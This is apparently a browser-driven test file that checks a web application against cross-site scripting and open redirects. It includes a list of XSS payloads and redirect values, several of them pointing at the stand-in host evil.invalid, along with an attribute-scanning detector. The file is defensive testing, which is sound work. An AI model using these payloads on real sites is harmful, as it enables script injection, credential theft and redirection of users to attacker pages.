import type { Page } from 'playwright-core';
import t, { type Test } from 'tap';
import { inventFollowUp } from '../follow-up.ts';
import { accountFor, appForFile, caller } from '../helper.ts';
import { inventImports } from '../invented-imports.ts';
import { done, placeIn, recordKinds, sampleOf, type Words } from '../samples.ts';
import { browserForFile, openPage } from './chromium.ts';
import { addressOf, pagesOf, staffPlaces, takeSession, valuesFor } from './places.ts';

/** What is tried: each would call `hit`, load something from elsewhere, or change what the page does, if it were more than text. */
const tried = [
  '<script>hit(1)</script>',
  '"><img src=x onerror=hit(2)>',
  "'><svg onload=hit(3)>",
  '</title><script>hit(4)</script>',
  '</textarea><script>hit(5)</script>',
  '<a href="javascript:hit(6)">7</a>',
  '<iframe srcdoc="<script>parent.hit(7)</script>"></iframe>',
  '<style>@import "https://evil.invalid/8.css"</style>',
  '<base href="https://evil.invalid/9/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/10">',
  '<form action="https://evil.invalid/11"><input name="csrf" autofocus onfocus=hit(11)>',
  '<details open ontoggle=hit(12)>',
  "{{constructor.constructor('hit(13)')()}}",
  '--><!--<script>hit(14)</script>',
  ']]><script>hit(15)</script><![CDATA[',
  '&lt;script&gt;hit(16)&lt;/script&gt;',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hit(17)>',
  '\u202e<x onclick=hit(18) id=main name=csrf>\u2028',
  '<link rel=stylesheet href=//evil.invalid/19.css><object data=//evil.invalid/19></object>',
  '</script></style></noscript></select><script>hit(20)</script>',
];

const browser = await browserForFile(t);
if (browser) {
  const { app, database } = await appForFile(t, { config: { publicUrl: undefined as never } });
  const { sql } = database;
  const origin = await app.listen({ host: '127.0.0.1', port: 0 });
  let turn = 0;
  /** All of them where there is room, else as many as fit, another one first each time. */
  const words: Words = (_field, max = 500) => {
    turn += 1;
    const rotated = [...tried.slice(turn % tried.length), ...tried.slice(0, turn % tried.length)];
    const fitting = rotated.filter((one) => one.length <= max);
    let text = fitting[0] ?? '<b>';
    for (const one of fitting.slice(1)) if (text.length + one.length < max) text += ` ${one}`;
    return text.replace('\u2028', ' ');
  };

  const { key } = await accountFor(database, { roles: ['editor'], institution: 'firm' });
  const editor = caller(app, key);
  const place = await placeIn(database);
  const made: Record<string, string> = {};
  for (const [number, kind] of recordKinds.entries()) {
    const { path, body } = sampleOf(kind, number + 1, { ...place, recommendation: made['recommendation'] ?? place.recommendation }, words);
    made[kind] = (await done(editor, 'POST', path, body)).id;
  }
  const recommendation = made['recommendation'] ?? '';
  await inventFollowUp(app, database, words, recommendation);
  await inventImports(database);
  await sql`update import_runs set file_name = ${'"><img src=x onerror=hit(21)>.json'}, failure = case when failure is null then null else ${tried.join(' ')} end`;
  await sql`update import_rows set reason = ${tried.join(' ')}, fields = ${sql.json([{ field: 'text.en', old: tried.join(' '), new: tried, outcome: 'kept', reason: tried[0] }] as never)}`;
  await sql`update import_reviews set reason = ${tried.join(' ')}, "values" = ${sql.json({ title: { en: tried.join(' ') }, texts: [{ language: 'en', origin: 'official', text: tried.join(' ') }] } as never)}`;
  const { staff, addresses } = await staffPlaces(app, database, recommendation);
  await sql`update users set name = ${tried.slice(0, 4).join(' ')} where id = ${staff.id}`;
  await sql`update api_keys set name = ${'"><script>hit(22)</script>'}`;

  /** A browser that obeys no policy of ours: what stands in a page as a script would run. */
  const openCredulous = async (t: Test) => {
    const { page } = await openPage(t, browser, { bypassCSP: true });
    const told: string[] = [];
    await page.exposeFunction('hit', (number: number) => void told.push(`hit(${number})`));
    page.on('dialog', (dialog) => {
      told.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(origin) && !request.url().startsWith('data:image')) told.push(request.url());
    });
    return { page, told };
  };
  /** What in a page is more than text, and no work of ours. */
  const strangeIn = (page: Page) =>
    page.evaluate(() => {
      const ours = (address: string | null) => address === null || /^(https?:|webcal:|mailto:|\/|\?|#|$)/.test(address);
      const strange: string[] = [];
      for (const one of document.querySelectorAll('*')) {
        for (const { name, value } of one.attributes) {
          if (name.startsWith('on') || name === 'srcdoc') strange.push(`${one.tagName} ${name}`);
          if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(name) && !ours(value))
            strange.push(`${name}=${value}`);
        }
        const isFile = one.tagName === 'SCRIPT' && one.getAttribute('src')?.startsWith('/') && one.textContent === '';
        // What search engines read of the data: a text that no browser runs, and that no element can stand in.
        const isDescription = one.getAttribute('type') === 'application/ld+json' && !one.textContent?.includes('<');
        // One without an address leads nowhere: it says where links of the widget open.
        const isWidgets = one.tagName === 'BASE' && !one.hasAttribute('href') && location.pathname.endsWith('/widget');
        const isForbidden =
          ['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MATH'].includes(one.tagName.toUpperCase()) &&
          !isFile &&
          !isWidgets &&
          !isDescription;
        if (isForbidden) strange.push(one.outerHTML.slice(0, 200));
        if (one.tagName === 'META' && one.getAttribute('http-equiv')?.toLowerCase() === 'refresh') strange.push('refresh');
        if (one instanceof HTMLFormElement && new URL(one.getAttribute('action') ?? '', location.href).origin !== location.origin)
          strange.push(`form to ${one.getAttribute('action')}`);
      }
      return strange;
    });

  const look = async (t: Test, page: Page, told: string[], address: string, statuses = [200]) => {
    const response = await page.goto(`${origin}/en${address}`);
    t.ok(statuses.includes(response?.status() ?? 0), `${address} ${response?.status()}`);
    // The widget alone is made to stand in the pages of others.
    const policy = response?.headers()['content-security-policy'] ?? '';
    const own = address.startsWith('/widget') ? policy.replace('frame-ancestors *', '') : policy;
    t.ok(own !== '' && !/unsafe-|\*|https?:/.test(own), `the policy of ${address}: ${policy}`);
    t.strictSame(await strangeIn(page), [], address);
    t.strictSame(told.splice(0), [], `nothing ran on ${address}`);
  };

  t.test('a page that took them for more than text would be found out', async (t) => {
    const { page, told } = await openCredulous(t);
    await page.goto(`${origin}/en/about`);
    for (const one of tried.slice(0, 3)) {
      await page.evaluate((text) => document.open() && document.write(`<p title="${text}">${text}</p>`), one);
      await page.waitForTimeout(100);
      t.not((await strangeIn(page)).length, 0, one);
    }
    t.ok(told.length >= 2, told.join());
  });

  t.test('a script in any text of any record is text on every page of the public', async (t) => {
    const { page, told } = await openCredulous(t);
    const values = {
      ...(await valuesFor(database)),
      recommendationId: recommendation,
      documentId: made['document'] ?? '',
      measureId: made['measure'] ?? '',
      reviewId: made['review'] ?? '',
      authorityId: made['authority'] ?? '',
      themes: 'prisons',
      treatyCode: place.treaty,
    };
    for (const template of pagesOf(app).filter((one) => !one.startsWith('/staff') && !one.endsWith('.csv')))
      await look(t, page, told, addressOf(template, values) ?? template);
    await page.goto(`${origin}/en/recommendations/${recommendation}`);
    const { texts } = (await caller(app)('GET', `/recommendations/${recommendation}`)).body as {
      texts: { language: string; text: string }[];
    };
    const written = texts.find(({ language }) => language === 'en')?.text ?? '';
    t.ok(written.length > 300);
    t.ok((await page.locator('main').textContent())?.includes(written), 'it stands there as it was written');
  });

  t.test('and on every page of the staff', async (t) => {
    const { page, told } = await openCredulous(t);
    await takeSession(page.context(), staff.token, origin);
    for (const [, address] of addresses) await look(t, page, told, address);
  });

  t.test('so is one in a search, a filter, an address, and where to go on after the sign-in', async (t) => {
    const { page, told } = await openCredulous(t);
    for (const one of [...tried, 'javascript:hit(23)', '//evil.invalid/24', 'https://evil.invalid/25', '/\\evil.invalid/26']) {
      const text = encodeURIComponent(one);
      for (const address of [`/recommendations?q=${text}`, `/search?q=${text}`, `/staff/sign-in?to=${text}`])
        await look(t, page, told, address);
      await look(t, page, told, `/recommendations?body=${text}&adoptedFrom=${text}`, [400]);
      await look(t, page, told, `/recommendations/${text}`, [404, 400]);
      await look(t, page, told, `/${text}`, [404, 400]);
    }
  });

  t.test('the page of the documentation of the API obeys as strict a policy', async (t) => {
    const { page, complaints } = await openPage(t, browser);
    const response = await page.goto(`${origin}/docs`);
    t.notMatch(response?.headers()['content-security-policy'], /unsafe-/);
    await page.locator('.opblock-summary-get').first().click();
    await page.locator('.opblock-body .try-out').first().waitFor();
    t.strictSame(complaints, [], 'and nothing that it needs is refused');
  });
}
